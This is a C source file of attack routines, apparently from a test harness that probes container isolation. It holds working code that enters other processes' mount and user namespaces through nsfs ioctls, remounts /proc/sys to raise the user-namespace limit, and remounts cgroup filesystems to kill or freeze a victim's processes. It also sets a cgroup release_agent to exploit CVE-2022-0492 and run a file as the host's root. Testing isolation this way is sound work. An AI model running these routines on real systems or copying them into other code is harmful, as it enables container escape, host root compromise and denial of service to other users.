// SPDX-License-Identifier: MIT
/* Attacks by namespaces: those of other processes, and new ones. */
#include "attack.h"

#include <limits.h>
#include <sched.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>

/* <linux/nsfs.h> of Linux 6.12 */
struct mnt_ns_info {
	uint32_t size;
	uint32_t nr_mounts;
	uint64_t mnt_ns_id;
};
#define GET_NEXT _IOR(0xb7, 11, struct mnt_ns_info)
#define GET_PREV _IOR(0xb7, 12, struct mnt_ns_info)

/* Works in a child, because a process may be unable to return to its mount namespace. */
static void enter_and_look(int ns, const char *how)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (setns(ns, CLONE_NEWNS) == 0) {
			printf("entered %s\n", how);
			look_in("/");
		}
		_exit(0);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}

static void walk(unsigned long request, const char *how)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC), next;
	struct mnt_ns_info info = { .size = sizeof(info) };

	for (int i = 0; i < 1000 && ns >= 0; i++) {
		next = ioctl(ns, request, &info);
		if (next < 0 && i == 0)
			printf("%s: %s\n", how, strerror(errno));
		close(ns);
		ns = next;
		if (ns >= 0)
			enter_and_look(ns, how);
	}
	if (ns >= 0)
		close(ns);
}

/* Tries the user namespaces that own the attacker's namespaces, and their parents. */
static void try_owners(void)
{
	static const char *const types[] = { "mnt", "pid", "uts", "ipc", "cgroup", "net", "user" };
	char path[64];

	for (size_t i = 0; i < sizeof(types) / sizeof(*types); i++) {
		int ns, owner;

		snprintf(path, sizeof(path), "/proc/self/ns/%s", types[i]);
		ns = open(path, O_RDONLY | O_CLOEXEC);
		for (unsigned int request = 1; request <= 2; request++) {
			owner = ioctl(ns, _IO(0xb7, request));
			if (owner >= 0 && setns(owner, 0) == 0)
				printf("entered the %s of %s\n", request == 1 ? "owner" : "parent",
				       path);
		}
	}
	look_in("/");
}

static void try_walks(void)
{
	walk(GET_PREV, "NS_MNT_GET_PREV");
	walk(GET_NEXT, "NS_MNT_GET_NEXT");
}

/* Tries again from a new mount namespace, which is then the youngest. */
void attack_neighbours(char **args)
{
	(void)args;
	try_walks();
	try_owners();
	if (unshare(CLONE_NEWNS) == 0)
		try_walks();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
		try_walks();
}

#define DIRECTORY_SIZE 4352

static void write_to(const char *directory, const char *file, const char *text)
{
	char path[DIRECTORY_SIZE + NAME_MAX];
	int fd;

	snprintf(path, sizeof(path), "%s/%s", directory, file);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) > 0)
		printf("wrote %s\n", path);
	close(fd);
}

/*
 * Makes a user namespace below this one. In it the attacker can make all calls of the kernel that
 * require capabilities. Two processes stay, and one of them is in that namespace.
 */
void attack_userns(char **args)
{
	static const char limit[] = "/proc/sys/user";

	(void)args;
	if (fork() == 0)
		for (;;)
			pause();
	/* The limit is useless if the attacker can raise it. */
	write_to(limit, "max_user_namespaces", "1000");
	mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
	write_to(limit, "max_user_namespaces", "1000");
	if (unshare(CLONE_NEWUSER) < 0)
		printf("unshare: %s\n", strerror(errno));
	wait_for_judge();
}

/* ---- cgroups ---- */

/* Makes a read-only cgroup filesystem writable, and kills all processes of the victim's group. */
static void kill_group(const char *place, const char *group)
{
	char path[DIRECTORY_SIZE];

	mount(NULL, place, NULL, MS_REMOUNT | MS_BIND, NULL);
	snprintf(path, sizeof(path), "%s/%s", place, group);
	write_to(path, "cgroup.kill", "1");
	write_to(path, "cgroup.freeze", "1");
}

/*
 * Does the same in a new cgroup filesystem. Its top is the cgroup in which the container was started,
 * and the caller is in that, too.
 */
static void kill_by_new(char **groups, int namespaces)
{
	pid_t child = fork();

	if (child == 0) {
		mkdir("/tmp/cgroup", 0755);
		if (unshare(namespaces) < 0 || mount("none", "/tmp/cgroup", "cgroup2", 0, NULL) < 0)
			printf("mount cgroup2: %s\n", strerror(errno));
		else
			for (char **group = groups; *group; group++)
				kill_group("/tmp/cgroup", *group);
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

void attack_cgroup(char **args)
{
	char line[4096], place[4096], type[64];
	FILE *mounts = fopen("/proc/self/mounts", "r");

	while (mounts && fgets(line, sizeof(line), mounts))
		if (sscanf(line, "%*s %4095s %63s", place, type) == 2 && strcmp(type, "cgroup2") == 0)
			for (char **group = args; *group; group++)
				kill_group(place, *group);
	if (mounts)
		fclose(mounts);
	kill_by_new(args, 0);
	kill_by_new(args, CLONE_NEWUSER | CLONE_NEWNS);
	kill_by_new(args, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
	usleep(100000); /* killed processes need some time to exit */
	mkdir("/tmp/cgroup", 0755);
	/* CVE-2022-0492: the kernel executes this file as the host's root. */
	if (mount("none", "/tmp/cgroup", "cgroup", 0, "pids") == 0)
		write_to("/tmp/cgroup", "release_agent", "/mnt/img/agent");
}
